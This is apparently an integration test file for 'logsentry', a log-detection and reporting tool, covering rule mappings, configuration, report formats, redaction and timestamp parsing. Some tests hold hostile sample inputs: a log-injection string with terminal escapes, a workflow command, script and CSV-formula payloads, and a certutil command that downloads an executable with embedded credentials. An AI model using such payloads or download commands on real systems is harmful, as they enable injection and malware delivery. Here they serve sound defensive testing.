//! Commands as their users type them.

use crate::support::{FORMATS, Folder, root, run, run_in, run_with_input};

#[test]
fn version_says_what_was_built() {
    let version = run(&["version", "--json"]).with_code(0).json();
    assert_eq!(version["name"], "logsentry");
    assert_eq!(version["version"], env!("CARGO_PKG_VERSION"));
    assert_eq!(version["rules"]["correlation"], 5);
    assert!(version["rules"]["detection"].as_u64() >= Some(19));
    let text = run(&["version"]).with_code(0).stdout;
    assert_eq!(text.lines().count(), 1, "{text}");
}

#[test]
fn formats_lists_every_row_with_an_example() {
    let formats = run(&["formats", "--format", "json"]).with_code(0).json();
    for format in formats.as_array().expect("a list") {
        for key in ["name", "summary", "spec", "example"] {
            assert!(format[key].as_str().is_some_and(|text| !text.is_empty()), "{format}: {key}");
        }
    }
    let table = run(&["formats"]).with_code(0).stdout;
    assert!(table.contains("syslog-3164"), "{table}");
}

#[test]
fn fields_lists_every_name_and_who_gives_it() {
    let fields = run(&["fields", "--format", "json"]).with_code(0).json();
    let find = |name: &str| fields.as_array().expect("a list").iter().find(|field| field["name"] == name);
    let holds = |list: &serde_json::Value, word: &str| list.as_array().is_some_and(|l| l.iter().any(|w| w == word));
    let address = find("src_ip").expect("it is canonical");
    assert!(holds(&address["synonyms"], "source.ip") && holds(&address["aliases"]["web"], "c-ip"), "{address}");
    assert!(holds(&address["given_by"], "sshd") && holds(&address["given_by"], "zeek/conn"), "{address}");
    assert!(holds(&find("any_ip").expect("it is listed")["gathers"], "dst_ip"));
    let table = run(&["fields"]).with_code(0).stdout;
    assert!(table.contains("command_line") && table.contains("any_hash"), "{table}");
}

/// A rule for a product nobody knows, two records of it, and the file that says so.
fn mapped() -> Folder {
    let folder = Folder::new();
    folder.write(
        "rules/acme.yml",
        "title: Acme shell\nname: acme-shell\nlogsource: {product: acme, category: process_creation}\n\
         detection:\n    s: {Image|endswith: /sh, any_ip: 10.0.0.9}\n    condition: s\nlevel: high\n",
    );
    folder.write(
        "logs/a.json",
        "{\"vendor\":\"acme\",\"proc\":{\"path\":\"/bin/sh\"},\"peers\":[\"10.0.0.9\"]}\n\
         {\"vendor\":\"other\",\"proc\":{\"path\":\"/bin/sh\"},\"peers\":[\"10.0.0.9\"]}\n",
    );
    folder.write(
        "acme.yml",
        "mappings:\n  - logsource: {product: acme, category: process_creation}\n    when: {vendor: acme}\n    \
         fields: {Image: $.proc.path, src_ip: '$.peers[0]'}\n\
         samples:\n  - record: {vendor: acme, peers: [10.0.0.1]}\n    fields: {src_ip: 10.0.0.1}\n",
    );
    folder
}

#[test]
fn a_rule_fires_through_a_mapping_and_not_without() {
    let folder = mapped();
    let scan = ["scan", "logs", "-r", "rules", "--no-builtin", "--format", "json", "-q"];
    let report = run_in(folder.path(), &[&scan[..], &["--mapping", "acme.yml"]].concat()).with_code(0).json();
    assert_eq!(report["alerts"][0]["count"], 1, "{report}");
    assert_eq!(report["alerts"][0]["rule_id"], "acme-shell", "{report}");
    let without = run_in(folder.path(), &scan).with_code(0).json();
    assert_eq!(without["alerts"].as_array().map(Vec::len), Some(0), "{without}");
    folder.write(".logsentry.yml", "mappings: [acme.yml]\n");
    assert_eq!(run_in(folder.path(), &scan).with_code(0).json()["alerts"], report["alerts"]);
    let told = run_in(folder.path(), &["explain", "acme-shell", "logs/a.json:1", "-r", "rules"]).with_code(0);
    assert!(told.stdout.contains("acme"), "{}", told.stdout);
    let events = run_in(folder.path(), &["events", "logs"]).with_code(0).lines();
    assert_eq!(events[0]["src_ip"], "10.0.0.9");
    assert_eq!(
        (&events[0]["@product"], &events[0]["process_path"]),
        (&"acme".into(), &"/bin/sh".into()),
        "{}",
        events[0]
    );
    assert_eq!((&events[1]["@product"], &events[1]["src_ip"]), (&serde_json::Value::Null, &serde_json::Value::Null));
}

#[test]
fn a_mapping_with_a_mistake_refuses_the_run_with_file_and_line() {
    let folder = mapped();
    folder.write("bad.yml", "mappings:\n  - fields:\n      user: $..a\n");
    for command in ["scan", "events"] {
        let ran = run_in(folder.path(), &[command, "logs", "--no-config", "--mapping", "bad.yml"]).with_code(2);
        assert!(ran.stderr.contains("bad.yml:3: `$..a`"), "{}", ran.stderr);
        let ran = run_in(folder.path(), &[command, "logs", "--no-config", "--mapping", "none.yml"]).with_code(2);
        assert!(ran.stderr.contains("none.yml: cannot be read"), "{}", ran.stderr);
    }
}

#[test]
fn rules_show_tells_what_a_rule_looks_for() {
    for id in ["corr-ssh-bruteforce", "linux-ssh-failed-password", "SSH Passwords Guessed From One Address"] {
        let shown = run(&["rules", "show", id, "--no-config"]).with_code(0).stdout;
        assert!(shown.contains("Level") && shown.contains("Reference"), "{shown}");
    }
    run(&["rules", "show", "nothing-like-it", "--no-config"]).with_code(2);
}

#[test]
fn a_users_rule_replaces_the_built_in_one_of_the_same_name() {
    let folder = Folder::new();
    folder.write(
        "mine.yml",
        "title: My own\nname: linux-user-added\nlogsource: {category: any}\ndetection:\n    s: {message: x}\n    condition: s\nlevel: high\n",
    );
    let args = ["rules", "--no-config", "-r", "mine.yml", "--format", "json"];
    let rules = run_in(folder.path(), &args).with_code(0).json();
    let mine: Vec<_> =
        rules.as_array().expect("a list").iter().filter(|rule| rule["id"] == "linux-user-added").collect();
    assert_eq!(mine.len(), 1);
    assert_eq!(mine[0]["title"], "My own");
    assert_eq!(mine[0]["file"], "mine.yml");
}

#[test]
fn layers_of_configuration_go_over_each_other() {
    let folder = Folder::new();
    folder.write(
        "logs/a.log",
        "Mar  2 09:00:01 gate sshd[77]: Failed password for root from 198.51.100.7 port 50011 ssh2\n",
    );
    folder.write(".logsentry.yml", "fail_on: low\nreports: {json: out/report.json}\n");
    let scan = |variable: Option<(&str, &str)>, args: &[&str]| {
        let mut command = crate::support::command(folder.path());
        command.args(["scan", "logs"]).args(args);
        if let Some((name, value)) = variable {
            command.env(name, value);
        }
        command.output().expect("it was built").status.code()
    };
    assert_eq!(scan(None, &[]), Some(1));
    assert!(folder.read("out/report.json").contains("\"config\": \".logsentry.yml\""));
    assert_eq!(scan(Some(("LOGSENTRY_FAIL_ON", "critical")), &[]), Some(0));
    assert_eq!(scan(Some(("LOGSENTRY_FAIL_ON", "critical")), &["--fail-on", "low"]), Some(1));
    assert_eq!(scan(Some(("LOGSENTRY_FAIL_ON", "")), &[]), Some(1));
    assert_eq!(scan(Some(("LOGSENTRY_USE_BUILTIN_RULES", "maybe")), &[]), Some(2));
    assert_eq!(scan(Some(("LOGSENTRY_USE_BUILTIN_RULES", "no")), &[]), Some(0));
    assert_eq!(scan(None, &["--no-config"]), Some(0));
}

#[test]
fn hostile_log_text_is_harmless_on_every_way_out() {
    let folder = Folder::new();
    let name = "\u{1b}[31m\u{202e}::error::<script>alert(1)</script>](https://evil)=cmd()";
    let line = serde_json::json!({"Channel": "Security", "EventID": 4625, "TargetUserName": name, "IpAddress": "=cmd()", "TimeCreated": "2026-03-02T09:00:00Z"});
    folder.write("a.jsonl", format!("{line}\n"));
    for format in FORMATS {
        let ran = folder.run(&["scan", "a.jsonl", "--no-config", "--format", format]).with_code(0);
        // One format is made of commands; they are ours alone.
        let is_ours = |line: &str| format == "github" && line.starts_with("::notice title=Windows");
        for text in [&ran.stdout, &ran.stderr] {
            assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}'), "{format}: {text}");
            assert!(text.lines().all(|line| is_ours(line) || !line.trim_start().starts_with("::")), "{format}: {text}");
        }
        if format == "html" {
            assert!(!ran.stdout.contains("<script>alert"), "{}", ran.stdout);
        }
        if format == "csv" {
            assert!(!ran.stdout.contains(",=cmd"), "{}", ran.stdout);
        }
        if format == "sarif" {
            let message = &ran.json()["runs"][0]["results"][0]["message"]["text"];
            assert!(message.as_str().is_some_and(|text| text.contains("] (") && !text.contains("](")), "{message}");
        }
    }
}

#[test]
fn several_reports_come_from_one_scan() {
    let folder = Folder::new();
    folder
        .write("a.log", "Mar  2 09:00:01 gate sshd[77]: Failed password for root from 198.51.100.7 port 50011 ssh2\n");
    let args = [
        "scan",
        "a.log",
        "--no-config",
        "--report",
        "sarif=r/a.sarif",
        "--report",
        "html=r/a.html",
        "--report",
        "matches=r/a.jsonl",
    ];
    let ran = folder.run(&args).with_code(0);
    assert!(ran.stdout.starts_with("Verdict:"), "{}", ran.stdout);
    assert!(folder.read("r/a.sarif").contains("\"2.1.0\""));
    assert!(folder.read("r/a.html").contains("<html"));
    assert!(folder.read("r/a.jsonl").lines().count() == 2);
}

#[test]
fn a_job_summary_is_added_to_and_other_files_are_replaced() {
    let folder = Folder::new();
    folder
        .write("a.log", "Mar  2 09:00:01 gate sshd[77]: Failed password for root from 198.51.100.7 port 50011 ssh2\n");
    let summary = folder.write("summary.md", "# Before\n");
    folder.write("other.md", "# Before\n");
    let report = format!("markdown={}", summary.display());
    let scan = || {
        let mut command = crate::support::command(folder.path());
        command.env("GITHUB_STEP_SUMMARY", &summary).env("GITHUB_ACTIONS", "true");
        command.args(["scan", "a.log", "--no-config", "--report", "markdown=other.md", "--report", &report]);
        command.output().expect("it was built").status.code()
    };
    assert_eq!((scan(), scan()), (Some(0), Some(0)));
    assert!(folder.read("summary.md").starts_with("# Before\n## logsentry: LOW_RISK"));
    assert_eq!(folder.read("summary.md").matches("## logsentry").count(), 2);
    assert!(folder.read("other.md").starts_with("## logsentry"));
    assert_eq!(folder.read("other.md").matches("## logsentry").count(), 1);
}

#[test]
fn sarif_tells_each_text_s_encoding() {
    let folder = Folder::new();
    let log = "{\"user\":\"größe\"}\n";
    let units = |to: fn(u16) -> [u8; 2]| log.encode_utf16().flat_map(to).collect::<Vec<u8>>();
    folder.write("big.jsonl", [&b"\xfe\xff"[..], &units(u16::to_be_bytes)].concat());
    folder.write("little.jsonl", units(u16::to_le_bytes));
    folder.write("made.evtx", std::fs::read(root().join("tests/formats/evtx/made.evtx")).expect("it is there"));
    folder.write("plain.jsonl", log);
    let encodings = |args: &[&str]| {
        let all = [&["scan", ".", "--no-config", "--format", "sarif"], args].concat();
        let sarif = folder.run(&all).with_code(0).json();
        let told = sarif["runs"][0]["artifacts"].as_array().expect("a list").iter();
        let told = told.filter(|one| one["roles"][0] == "analysisTarget");
        told.map(|one| one["encoding"].as_str().map(str::to_owned)).collect::<Vec<_>>()
    };
    let utf16 = [Some("UTF-16BE".to_owned()), Some("UTF-16LE".to_owned()), None];
    assert_eq!(encodings(&[]), [&utf16[..], &[Some("UTF-8".to_owned())]].concat());
    // A mark says more than the word for all of them, and a binary log is no text.
    assert_eq!(
        encodings(&["--encoding", "latin1", "--include", "big*", "--include", "pl*"]),
        [Some("UTF-16BE".to_owned()), Some("windows-1252".to_owned())]
    );
}

#[test]
fn sarif_says_what_it_is_asked_to() {
    let folder = Folder::new();
    folder
        .write("a.log", "Mar  2 09:00:01 gate sshd[77]: Failed password for root from 198.51.100.7 port 50011 ssh2\n");
    folder.write(".logsentryignore.yml", "- {rule: linux-ssh-failed-password, reason: known, permanent: true}\n");
    let sarif = |args: &[&str]| {
        let all = [&["scan", "a.log", "--no-config", "--format", "sarif"], args].concat();
        folder.run(&all).with_code(0).json()["runs"][0].clone()
    };
    let count = |value: &serde_json::Value| value.as_array().map_or(0, Vec::len);
    let plain = sarif(&[]);
    assert_eq!((count(&plain["results"]), count(&plain["tool"]["driver"]["rules"])), (0, 0));
    assert!(plain["invocations"][0].get("startTimeUtc").is_none());
    let marked = sarif(&["--sarif-include-suppressed", "--timestamps"]);
    assert_eq!(marked["results"][0]["suppressions"][0]["justification"], "known");
    let started = marked["invocations"][0]["startTimeUtc"].as_str().expect("it is there");
    assert!(started.ends_with('Z') && started.len() >= 20, "{started}");
    assert!(count(&sarif(&["--sarif-rules", "all"])["tool"]["driver"]["rules"]) > 30);
    folder.run(&["scan", "a.log", "--no-config", "--sarif-rules", "some"]).with_code(2);
    let cut =
        ["scan", "a.log", "--no-config", "--no-ignore", "--no-builtin", "-r", "r.yml", "--report", "sarif=x.sarif"];
    folder.write(
        "r.yml",
        "title: A\nlogsource: {category: any}\ndetection: {s: {src_ip: '*'}, condition: s}\n---\n\
        title: B\nlogsource: {category: any}\ndetection: {s: {user: '*'}, condition: s}\n",
    );
    let ran = folder.run(&[&cut[..], &["--sarif-max-results", "1"]].concat()).with_code(0);
    assert!(ran.stderr.contains("2 alerts, 1 of them in SARIF"), "{}", ran.stderr);
}

#[test]
fn strict_redaction_blanks_people_in_every_report() {
    let folder = Folder::new();
    folder.write("a.log", "Mar  2 09:00:01 gate sshd[77]: Failed password for root from 10.20.30.40 port 50011 ssh2\n");
    for format in FORMATS {
        let ran = folder.run(&["scan", "a.log", "--no-config", "--redact", "strict", "--format", format]).with_code(0);
        assert!(!ran.stdout.contains("10.20.30.40"), "{format}: {}", ran.stdout);
        assert!(ran.stdout.contains("10.20.30."), "{format}: {}", ran.stdout);
    }
}

#[test]
fn secrets_are_blanked_in_every_report() {
    let folder = Folder::new();
    let line = serde_json::json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Image": "C:\\Windows\\System32\\certutil.exe",
        "CommandLine": "certutil -urlcache -split -f https://u:hunter2@198.51.100.7/x.exe password=tops3cret", "UtcTime": "2026-03-02 09:00:00.000"});
    folder.write("a.jsonl", format!("{line}\n"));
    for format in FORMATS {
        let ran = folder.run(&["scan", "a.jsonl", "--no-config", "--format", format]).with_code(0);
        assert!(!ran.stdout.contains("tops3cret") && !ran.stdout.contains("hunter2"), "{format}: {}", ran.stdout);
        assert!(format == "console" || ran.stdout.contains("certutil"), "{format}: {}", ran.stdout);
    }
    let shown = folder.run(&["scan", "a.jsonl", "--no-config", "--format", "json", "--redact", "off"]).with_code(0);
    assert!(shown.stdout.contains("tops3cret"));
    let of = |ran: &crate::support::Ran| ran.json()["alerts"][0]["fingerprint"].clone();
    assert_eq!(of(&shown), of(&folder.run(&["scan", "a.jsonl", "--no-config", "--format", "json"])));
}

#[test]
fn the_example_configuration_is_understood() {
    let folder = Folder::new();
    folder.write("a.log", "");
    let example = std::fs::read_to_string(root().join(".logsentry.yml.example")).expect("it is there");
    folder.write(".logsentry.yml", &example);
    folder.run(&["scan", "a.log"]).with_code(0);
    // And with every key that is commented out.
    let is_key = |line: &str| {
        line.trim_start().strip_prefix("# ").is_some_and(|rest| {
            rest.split_once(": ").is_some_and(|(key, _)| key.bytes().all(|b| b.is_ascii_lowercase() || b == b'_'))
        })
    };
    let all: String = example
        .lines()
        .map(|line| if is_key(line) { format!("{}\n", line.replacen("# ", "", 1)) } else { format!("{line}\n") })
        .collect();
    assert!(all.contains("\nfail_on: high") && all.contains("\n  year: 2026"), "{all}");
    folder.write(".logsentry.yml", all);
    folder.write(".logsentryignore.yml", "");
    folder.write("known.json", "{\"schema\": \"logsentry-baseline/1\", \"alerts\": []}");
    folder.run(&["scan", "a.log"]).with_code(0);
}

#[test]
fn rules_are_chosen_by_what_they_say_of_themselves() {
    let list = |args: &[&str]| {
        let rules = run(&[&["rules", "--no-config", "--format", "json"], args].concat()).with_code(0).json();
        rules.as_array().expect("a list").clone()
    };
    let all = list(&[]);
    let high = list(&["--rule-level", "high+"]);
    assert!(!high.is_empty() && high.len() < all.len());
    // What a chosen correlation counts stays, and is reported through it only.
    let is_low = |rule: &&serde_json::Value| !["high", "critical"].contains(&rule["level"].as_str().unwrap_or(""));
    let feeders: Vec<_> = high.iter().filter(is_low).map(|rule| rule["id"].as_str().unwrap_or("")).collect();
    assert!(feeders.contains(&"linux-ssh-failed-password"), "{feeders:?}");
    let web = list(&["--rule-tag", "attack.t1190,attack.t1505", "--rule-status", "test,experimental,stable"]);
    assert!(!web.is_empty() && web.iter().all(|rule| rule["kind"] == "detection"));
    let said = run(&["rules", "--no-config", "--rule-product", "linux,os2"]).with_code(0).stderr;
    assert!(said.contains("--rule-product \"os2\" is the product of no loaded rule"), "{said}");
    run(&["rules", "--no-config", "--rule-product", "os2"]).with_code(3);
    run(&["rules", "--no-config", "--rule-level", "urgent"]).with_code(2);
    run(&["rules", "--no-config", "--rule-status", "fine"]).with_code(2);
}

#[test]
fn what_is_left_out_and_what_a_level_became_is_in_the_report() {
    let folder = Folder::new();
    folder
        .write("a.log", "Mar  2 09:00:01 gate sshd[77]: Failed password for root from 198.51.100.7 port 50011 ssh2\n");
    folder.write(
        ".logsentry.yml",
        "levels: {linux-ssh-failed-password: critical, gone: low}\nrule_product: linux\nrule_level: [critical]\n",
    );
    let ran =
        folder.run(&["scan", "a.log", "--year", "2026", "--format", "json", "--fail-on", "critical"]).with_code(1);
    assert!(ran.stderr.contains("levels: \"gone\" names no loaded rule"), "{}", ran.stderr);
    let report = ran.json();
    assert_eq!(report["alerts"][0]["level"], "critical");
    assert_eq!(report["alerts"][0]["rule_id"], "linux-ssh-failed-password");
    assert_eq!(report["summary"]["verdict"], "CRITICAL");
    let rules = &report["summary"]["rules"];
    let all = run(&["version", "--json"]).json()["rules"].clone();
    let count = |value: &serde_json::Value| value.as_u64().expect("a number");
    assert_eq!(
        count(&rules["loaded"]) + count(&rules["left_out"]),
        count(&all["detection"]) + count(&all["correlation"])
    );
    assert!(ran.stderr.contains("not chosen"), "{}", ran.stderr);
}

#[test]
fn rules_are_counted_in_tables_and_json() {
    let args = |what| ["rules", what, "--no-config", "--format", "json"];
    let stat = run(&args("stat")).with_code(0).json();
    let sum = |of: &str| {
        let rows = stat[of].as_array().expect("a list");
        rows.iter().map(|row| row["rules"].as_u64().expect("a number")).sum::<u64>()
    };
    // A rule has one level, one status and at most one of each word of a log source.
    for of in ["level", "status", "product", "category", "service"] {
        assert_eq!(sum(of), stat["loaded"].as_u64().expect("a number"), "{of}");
    }
    assert!(sum("tactic") >= sum("level"));
    let folder = Folder::new();
    let rule = |title: &str, source: &str, fields: &str| {
        format!("title: {title}\nlogsource: {{{source}}}\ndetection: {{s: {{{fields}}}, condition: s}}\n")
    };
    let rules = [
        rule("A", "product: windows, category: process_creation", "Image: x, my_own: y"),
        rule("B", "product: windows, category: process_creation", "'Image|contains': x, 'a|fieldref': b"),
        rule("C", "category: application, product: sql", "src_ip: x"),
        rule("D", "product: \"os\\e[2J\", service: s", "x: y"),
    ];
    folder.write("r.yml", rules.join("---\n"));
    let with = |what, format| ["rules", what, "--no-config", "--no-builtin", "-r", "r.yml", "--format", format];
    let sources = folder.run(&with("logsources", "json")).with_code(0).json();
    let standing: Vec<_> =
        sources.as_array().expect("a list").iter().map(|row| (&row["rules"], &row["standing"])).collect();
    assert_eq!(standing[0], (&2.into(), &"recognised".into()));
    assert!(standing.contains(&(&1.into(), &"listed".into())) && standing.contains(&(&1.into(), &"unknown".into())));
    let fields = folder.run(&with("fields", "json")).with_code(0).json();
    assert_eq!((&fields[0]["field"], &fields[0]["rules"]), (&"Image".into(), &2.into()));
    let canonical = |name: &str| {
        let rows = fields.as_array().expect("a list");
        rows.iter().find(|row| row["field"] == name).expect("it is tested")["canonical"].clone()
    };
    assert_eq!(canonical("src_ip"), "src_ip");
    assert_eq!(canonical("my_own"), serde_json::Value::Null);
    assert_eq!(canonical("b"), serde_json::Value::Null);
    for what in ["stat", "logsources", "fields"] {
        let table = folder.run(&with(what, "table")).with_code(0).stdout;
        assert!(table.contains("RULES") && !table.contains('\u{1b}'), "{table}");
    }
}

#[test]
fn stamps_without_a_year_that_a_file_shows_late_rest_on_all_of_it() {
    let mut log = "2024-02-28T10:00:00Z web1 app[1]: one line of many\n".repeat(2_000);
    log.push_str(&"Dec 31 23:59:58 web1 app[1]: out\nJan  3 00:00:01 web1 app[1]: in\n".repeat(2));
    let dated = format!("{log}2026-01-04T10:00:00Z web1 app[1]: the end\n");
    let folder = Folder::new();
    folder.write("dated.log", &dated);
    folder.write("log", &log);
    let args = ["events", "--no-config", "--reference-time", "2030-06-01T00:00:00Z"];
    let late = |more: &[&str]| {
        let events = folder.run(&[&args[..], more].concat()).with_code(0).lines();
        let is_late = |event: &&serde_json::Value| event["message"] == "out" || event["message"] == "in";
        events.iter().filter(is_late).map(|event| event["timestamp"].clone()).collect::<Vec<_>>()
    };
    let years = ["2024-12-31T23:59:58Z", "2025-01-03T00:00:01Z", "2025-12-31T23:59:58Z", "2026-01-03T00:00:01Z"];
    assert_eq!(late(&["dated.log"]), years);
    assert_eq!(late(&["log", "--year", "2026"]), years);
    // What begins lines counts: the last stamp is none after the latest date of all of them.
    assert_eq!(late(&["log"])[3], "2024-01-03T00:00:01Z");

    let said = |log: &str, more: &[&str]| {
        folder.write("said", log);
        let args = ["scan", "said", "--no-config", "--format", "json", "--reference-time", "2030-06-01T00:00:00Z"];
        let report = folder.run(&[&args[..], more].concat()).with_code(0).json();
        report["problems"].to_string()
    };
    // Without any date it is the clock's, and said; where no stamp is met there is nothing to say.
    let lines = "{\"a\":\"b\"}\n".repeat(10_000);
    let undated = format!("{lines}Jun  1 10:00:00 web1 sshd[1]: x\n");
    assert!(said(&undated, &[]).contains("counted back from 2030-06-01T00:00:00Z"));
    assert!(!said(&undated, &["--year", "2024"]).contains("year_assumed"));
    assert!(!said(&lines, &[]).contains("year_assumed"));
}

#[test]
fn stamps_without_a_year_that_a_pipe_shows_late_get_one() {
    // More than is looked at to recognise a format.
    let mut log = "2024-02-28T10:00:00Z web1 app[1]: one line of many\n".repeat(2_000);
    log.push_str("Dec 31 23:59:58 web1 app[1]: last year\nJan  1 00:00:01 web1 app[1]: this year\n");
    let args = ["events", "-", "--no-config", "--reference-time", "2026-06-01T00:00:00Z"];
    let folder = Folder::new();
    let events = run_with_input(folder.path(), &args, log.as_bytes()).with_code(0).lines();
    let times: Vec<_> = events.iter().rev().take(2).map(|event| event["timestamp"].clone()).collect();
    assert_eq!(times, ["2024-01-01T00:00:01Z", "2023-12-31T23:59:58Z"]);

    // With no date to go by it is the clock's, and said; a stamp far behind that date is doubtful.
    let said = |log: &str, more: &[&str]| {
        let args =
            [&["scan", "-", "--no-config", "--format", "json", "--reference-time", "2024-06-01T00:00:00Z"], more];
        let report = run_with_input(folder.path(), &args.concat(), log.as_bytes()).with_code(0).json();
        let problems = report["problems"].as_array().cloned().expect("a list");
        let years = problems.iter().filter(|problem| problem["kind"] == "year_assumed");
        years.map(|problem| problem["message"].as_str().unwrap_or_default().to_owned()).collect::<Vec<_>>()
    };
    let disorder = "Jul 20 10:00:00 web1 app[1]: x\nJun  1 10:00:00 web1 app[1]: y\n";
    assert!(said(disorder, &[])[0].contains("counted back from 2024-06-01T00:00:00Z"));
    let dated = format!("2024-06-01T00:00:00Z web1 app[1]: w\n{disorder}");
    assert!(said(&dated, &[])[0].contains("lie after 2024-06-01"), "{:?}", said(&dated, &[]));
    assert_eq!(said(&dated, &["--year", "2024"]), [""; 0]);
}
